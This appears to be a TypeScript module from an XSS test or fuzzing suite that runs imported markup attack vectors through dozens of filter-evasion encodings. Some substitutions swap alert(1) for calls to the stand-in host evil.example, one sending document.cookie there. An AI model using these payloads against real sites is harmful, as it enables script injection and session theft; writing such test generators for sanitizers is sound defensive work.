// Encodings: markup that runs, written so that it is markup only after something has decoded it.

import { vectors } from "./markup.ts";

const codes = (text: string, one: (code: number) => string) =>
  Array.from(text, (sign) => one(sign.codePointAt(0) as number)).join("");
const hex = (code: number, length: number) => code.toString(16).padStart(length, "0");

const encodings: readonly ((text: string) => string)[] = [
  (text) => codes(text, (code) => `&#${code};`),
  (text) => codes(text, (code) => `&#${code}`),
  (text) => codes(text, (code) => `&#x${hex(code, 5)};`),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&LT").replaceAll(">", "&GT"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => codes(text, (code) => `%u${hex(code, 4)}`),
  (text) => codes(text, (code) => `\\u${hex(code, 4)}`),
  (text) => codes(text, (code) => `\\x${hex(code, 2)}`),
  (text) => codes(text, (code) => `\\${code.toString(8)}`),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "¼").replaceAll(">", "¾"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "‹").replaceAll(">", "›"),
  (text) => text.replaceAll("<", "%C0%BC").replaceAll(">", "%C0%BE"),
  (text) => text.replaceAll("<", "\u00c0\u00bc"),
  (text) => text.replaceAll("<", "\\<"),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => text.replaceAll("<", "< "),
  (text) => text.replaceAll(" ", "\u00a0"),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.toUpperCase(),
  (text) => [...text].join("\u0301"),
  (text) => Buffer.from(text).toString("base64"),
  (text) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`,
  (text) => text.replaceAll("alert(1)", "window['al'+'ert'](1)"),
  (text) => text.replaceAll("alert(1)", "fetch('//evil.example')"),
  (text) => text.replaceAll("alert(1)", "location='//evil.example/'"),
  (text) => text.replaceAll("alert(1)", "new(Image)().src='//evil.example/'+document.cookie"),
  (text) => text.replaceAll("alert(1)", "setTimeout('alert(1)')"),
  (text) => text.replaceAll("alert(1)", "navigator.sendBeacon('//evil.example')"),
  (text) => text.replaceAll("alert(1)", "import('data:text/javascript,alert(1)')"),
  (text) => text.replaceAll("alert(1)", "document.write('x')"),
  (text) => text.replaceAll("alert(1)", "throw`x`"),
];

export function* encoded(): Iterable<string> {
  for (const encoding of encodings) for (const vector of vectors) yield encoding(vector);
}
